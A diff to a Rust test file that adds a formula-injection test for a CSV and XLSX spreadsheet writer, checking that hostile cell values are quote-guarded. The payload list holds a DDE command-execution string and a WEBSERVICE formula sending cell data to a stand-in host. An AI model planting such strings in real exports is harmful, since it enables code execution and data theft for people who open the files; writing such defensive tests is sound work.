@@ -78,6 +78,74 @@ fn csv_reads_back_to_the_same_cells_in_both_encodings() {
     assert!(csv_of(Encoding::Utf8).starts_with("\u{feff}".as_bytes()));
 }
 
+/// T31: what a spreadsheet would run, in every place of a table and in both formats.
+#[test]
+fn sec_t31_nothing_in_a_head_a_text_or_a_number_runs_when_a_table_is_opened() {
+    let starts = [
+        "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=",
+    ];
+    let tails = [
+        "cmd|' /C calc'!A0",
+        "HYPERLINK(\"http://x.example\",\"点击\")",
+        "WEBSERVICE(\"http://x.example/\"&A1)",
+        "1+1",
+        "SUM(A1:A9)*;2",
+    ];
+    let corpus: Vec<String> = starts
+        .iter()
+        .flat_map(|start| tails.iter().map(move |tail| format!("{start}{tail}")))
+        .collect();
+    assert_eq!(corpus.len(), 60);
+    let head = |text: &str| SheetHead {
+        title: "示例".into(),
+        columns: vec![ColumnHead::text(text), ColumnHead::number("金额")],
+    };
+    for hostile in &corpus {
+        let mut writer = CsvWriter::new(Vec::new(), Encoding::Utf8);
+        writer.begin(&head(hostile)).unwrap();
+        writer.row(&[hostile.clone(), hostile.clone()]).unwrap();
+        let bytes = writer.finish().unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        let mut reader = csv::ReaderBuilder::new();
+        let mut reader = reader
+            .has_headers(false)
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .flat_map(|record| {
+                record
+                    .unwrap()
+                    .iter()
+                    .map(str::to_owned)
+                    .collect::<Vec<_>>()
+            })
+            .collect();
+        assert_eq!(cells.len(), 4);
+        for cell in cells.iter().filter(|cell| *cell != "金额") {
+            assert!(cell.starts_with('\''), "{cell:?}");
+            assert_eq!(unguarded(cell), hostile);
+        }
+    }
+    let mut writer = XlsxWriter::new();
+    writer.notes("说明", &corpus).unwrap();
+    writer.begin(&head("=1+1")).unwrap();
+    for hostile in &corpus {
+        writer.row(&[hostile.clone(), hostile.clone()]).unwrap();
+    }
+    let mut out = Cursor::new(Vec::new());
+    writer.save(&mut out).unwrap();
+    let mut read = calamine::Xlsx::new(out).unwrap();
+    for sheet in ["说明", "示例"] {
+        assert!(read.worksheet_formula(sheet).unwrap().is_empty(), "{sheet}");
+        let range = read.worksheet_range(sheet).unwrap();
+        assert!(
+            range
+                .used_cells()
+                .all(|(_, _, cell)| matches!(cell, Data::String(_)))
+        );
+    }
+}
+
 #[test]
 fn a_row_without_a_table_is_refused() {
     let mut writer = CsvWriter::new(Vec::new(), Encoding::Utf8);
